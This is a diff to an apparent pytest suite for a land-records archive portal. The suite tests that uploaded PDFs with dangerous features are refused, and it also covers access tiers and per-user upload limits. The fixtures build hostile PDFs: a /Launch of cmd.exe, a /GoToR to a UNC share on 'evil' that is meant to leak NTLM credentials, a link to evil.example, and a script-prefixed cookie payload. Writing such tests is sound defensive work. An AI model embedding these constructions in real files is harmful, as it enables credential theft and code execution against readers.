@@ -17,7 +17,7 @@ from fastapi.testclient import TestClient
 from harness import PEOPLE
 from PIL import Image
 from pypdf import PdfWriter
-from pypdf.generic import DictionaryObject, NameObject, TextStringObject
+from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject
 
 from portal.accounts.principal import Account
 from portal.app import create_app
@@ -60,6 +60,26 @@ def pdf(pages: int = 2, hostile: str | None = None) -> bytes:
             NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")})
     elif hostile == "encrypted":
         writer.encrypt("secret")
+    elif hostile == "gotor":  # a remote go-to: a UNC path makes Windows readers send NTLM credentials
+        writer._root_object[NameObject("/OpenAction")] = DictionaryObject({
+            NameObject("/S"): NameObject("/GoToR"), NameObject("/F"): TextStringObject("\\\\evil\\share\\x.pdf"),
+            NameObject("/D"): ArrayObject([NumberObject(0), NameObject("/Fit")])})
+    elif hostile == "uri":  # a link annotation opening a web address
+        writer.add_annotation(0, DictionaryObject({
+            NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
+            NameObject("/Rect"): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(99), NumberObject(99)]),
+            NameObject("/A"): DictionaryObject({NameObject("/S"): NameObject("/URI"),
+                                                NameObject("/URI"): TextStringObject("https://evil.example/")})}))
+    elif hostile == "page_open":  # a page's additional action playing a rendition
+        writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): DictionaryObject({
+            NameObject("/S"): NameObject("/Rendition"), NameObject("/OP"): NumberObject(0)})})
+    elif hostile == "xfa":
+        writer._root_object[NameObject("/AcroForm")] = DictionaryObject({
+            NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): TextStringObject("<xdp:xdp/>")})
+    elif hostile == "goto":  # an internal go-to: accepted
+        writer._root_object[NameObject("/OpenAction")] = DictionaryObject({
+            NameObject("/S"): NameObject("/GoTo"),
+            NameObject("/D"): ArrayObject([writer.pages[0].indirect_reference, NameObject("/Fit")])})
     out = io.BytesIO()
     writer.write(out)
     return out.getvalue()
@@ -113,7 +133,8 @@ def client(module_database: str, owner: dict[str, int], store_dir: Path) -> Iter
         return people.get(request.headers.get("x-test-person", ""), Principal())
 
     settings = Settings(database=DatabaseSettings(DATABASE_URL=module_database),
-                        archive=ArchiveSettings(store_dir=store_dir, cache_dir=store_dir.parent / "cache"))
+                        archive=ArchiveSettings(store_dir=store_dir, cache_dir=store_dir.parent / "cache",
+                                                render_wait_seconds=0.3))
     app = create_app(settings)
     app.state.principal_resolver = resolver
     with TestClient(app) as test_client:
@@ -140,6 +161,8 @@ def archive_rows(url: str) -> int:
     (tiff(3), "sheet.tif", "image/tiff", 3),
     (pdf(2), "order.pdf", "application/pdf", 2),
     (png(colour="red"), "named-like-a.pdf", "image/png", 1),  # the name says PDF, the bytes PNG
+    (pdf(1, "goto"), "opens-at-page-1.pdf", "application/pdf", 1),  # an internal go-to is harmless
+    (b"\xef\xbb\xbf\r\n" + pdf(1), "bom.pdf", "application/pdf", 1),  # only whitespace or a BOM before %PDF-
 ])
 def test_the_type_is_decided_from_the_bytes(client, owner, content, name, media_type, pages) -> None:  # type: ignore[no-untyped-def]
     answer = attach(client, owner["source_id"], content, name)
@@ -157,6 +180,11 @@ def test_the_type_is_decided_from_the_bytes(client, owner, content, name, media_
     (pdf(1, "launch"), "pdf_launch_action"),
     (pdf(1, "embedded"), "pdf_embedded_file"),
     (pdf(1, "encrypted"), "pdf_encrypted"),
+    (pdf(1, "gotor"), "pdf_action"),
+    (pdf(1, "uri"), "pdf_action"),
+    (pdf(1, "page_open"), "pdf_action"),
+    (pdf(1, "xfa"), "pdf_xfa"),
+    (b"<html><script>alert(document.cookie)</script>" + pdf(1), "pdf_header"),
     (b"PK\x03\x04 not a scan", "unsupported_type"),
     (b"%PDF-1.7\n garbage that no parser accepts", "unreadable"),
     (b"\x89PNG\r\n\x1a\n truncated", "unreadable"),
@@ -169,7 +197,16 @@ def test_hostile_files_are_refused_with_a_stable_reason_and_change_nothing(clien
     detail = answer.json()["detail"]
     assert (detail["code"], detail["reason"], detail["file"]) == ("file_refused", reason, "scan.pdf")
     assert detail["message"].startswith("scan.pdf: ")
+    assert "/tmp" not in answer.text and "cadastre-archive-" not in answer.text  # no server path, ever
     assert archive_rows(module_database) == before
+
+
+def test_the_pixel_limit_message_names_one_limit(client, owner) -> None:  # type: ignore[no-untyped-def]
+    detail = attach(client, owner["source_id"], pixel_bomb(), "bomb.png").json()["detail"]
+    limit = client.app.state.settings.archive.max_pixels if hasattr(client.app.state, "settings") else None
+    numbers = {n.replace(",", "") for n in __import__("re").findall(r"\d[\d,]{3,}", detail["message"])}
+    assert len(numbers) == 1, detail["message"]
+    assert limit is None or numbers == {str(limit)}
 
 
 def test_every_refusal_reason_is_translated() -> None:
@@ -261,6 +298,56 @@ def test_tiers_see_what_the_disclosure_table_says_and_every_view_is_audited(clie
     assert listed.status_code == 200 and deed in {f["sha256"] for f in listed.json()}
     assert client.get(f"/api/sources/{owner['court_source_id']}/files", headers=as_("owner")).status_code == 404
     assert client.get(f"/api/sources/{owner['court_source_id']}/files", headers=as_("clerk")).status_code == 200
+
+
+def test_a_viewer_sees_only_the_attachments_they_may_see(client, owner) -> None:  # type: ignore[no-untyped-def]
+    """One file attached to the owner's source and to a court order: each tier lists only the
+    attachments it may see, in the API and in the page viewer (no other source's id or file name)."""
+    content = png(333, 222, "purple")
+    sha256 = attach(client, owner["source_id"], content, "owner-deed.png").json()["sha256"]
+    attach(client, owner["court_source_id"], content, "sealed-court-order.png")
+    expected = {"registrar": {owner["source_id"], owner["court_source_id"]}, "owner": {owner["source_id"]},
+                "clerk": {owner["court_source_id"]}}
+    for person, sources in expected.items():
+        answer = client.get(f"/api/archive/{sha256}", headers=as_(person))
+        assert answer.status_code == 200, (person, answer.text)
+        assert {a["id"] for a in answer.json()["attached_to"] if a["kind"] == "source"} == sources, person
+        page = client.get(f"/archive/{sha256}", headers=as_(person))
+        assert page.status_code == 200, (person, page.text)
+        assert ("sealed-court-order.png" in page.text) == (owner["court_source_id"] in sources), person
+        assert ("owner-deed.png" in page.text) == (owner["source_id"] in sources), person
+
+
+def test_one_user_cannot_hold_every_worker_with_scans(client, owner) -> None:  # type: ignore[no-untyped-def]
+    """Attaching and rendering count against the same per-user limit as survey uploads (two at
+    once by default): with the registrar's two slots held (two uploads still being read), a third
+    is refused with 429 uploads_at_once and Retry-After, and a page render waits, then is refused;
+    another user is not held up, and a freed slot serves the next."""
+    from types import SimpleNamespace
+
+    from portal.platform.slots import slots_of
+
+    slots = slots_of(SimpleNamespace(app=client.app))
+    limit = client.app.state.settings.survey.uploads_at_once_per_user
+    sha256 = attach(client, owner["source_id"], png(90, 60, "olive"), "held.png").json()["sha256"]
+    registrar = str(PEOPLE["registrar"].user_id)
+    held = [slots.slot(registrar, limit) for _ in range(limit)]
+    for slot in held:
+        slot.__enter__()
+    try:
+        refused = attach(client, owner["source_id"], png(91, 60, "olive"), "third.png")
+        assert refused.status_code == 429, refused.text
+        assert refused.json()["detail"]["code"] == "uploads_at_once" and refused.headers["retry-after"] == "5"
+        render = client.get(f"/api/archive/{sha256}/pages/1.png?size=thumb", headers=as_("registrar"))
+        assert render.status_code == 429 and render.json()["detail"]["code"] == "uploads_at_once"
+        assert "uploads at once per user" in render.json()["detail"]["message"]
+        other = client.get(f"/api/archive/{sha256}/pages/1.png", headers=as_("owner"))
+        assert other.status_code == 200, other.text
+    finally:
+        for slot in held:
+            slot.__exit__(None, None, None)
+    assert attach(client, owner["source_id"], png(91, 60, "olive"), "third.png").status_code == 201
+    assert client.get(f"/api/archive/{sha256}/pages/1.png?size=thumb", headers=as_("registrar")).status_code == 200
 
 
 def test_pages_thumbnails_and_the_original(client, module_database, owner) -> None:  # type: ignore[no-untyped-def]
